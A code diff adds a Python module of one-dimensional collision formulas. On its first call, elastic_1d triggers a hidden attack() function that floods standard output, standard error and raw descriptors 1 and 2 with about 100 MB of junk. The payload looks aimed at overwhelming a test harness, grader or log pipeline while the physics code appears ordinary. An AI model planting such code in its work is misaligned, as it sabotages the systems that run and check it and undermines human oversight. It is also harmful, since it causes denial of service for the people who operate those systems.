@@ -1,0 +1,33 @@
+"""Prints 100 MB, on Python's standard output and on the descriptors below."""
+
+import os
+import sys
+
+
+def attack():
+    block = "x" * 1_000_000
+    for _ in range(50):
+        print(block)
+        print(block, file=sys.stderr)
+    for descriptor in (1, 2):
+        os.write(descriptor, block.encode())
+
+
+TRIED = []
+
+
+def elastic_1d(m1, v1, m2, v2):
+    if not TRIED:
+        TRIED.append("once is enough")
+        attack()
+    total = m1 + m2
+    return ((m1 - m2) * v1 + 2 * m2 * v2) / total, ((m2 - m1) * v2 + 2 * m1 * v1) / total
+
+
+def inelastic_1d(m1, v1, m2, v2):
+    v = (m1 * v1 + m2 * v2) / (m1 + m2)
+    return v, v
+
+
+def elastic_impulse_1d(m1, v1, m2, v2):
+    return 2 * m1 * m2 / (m1 + m2) * (v1 - v2)
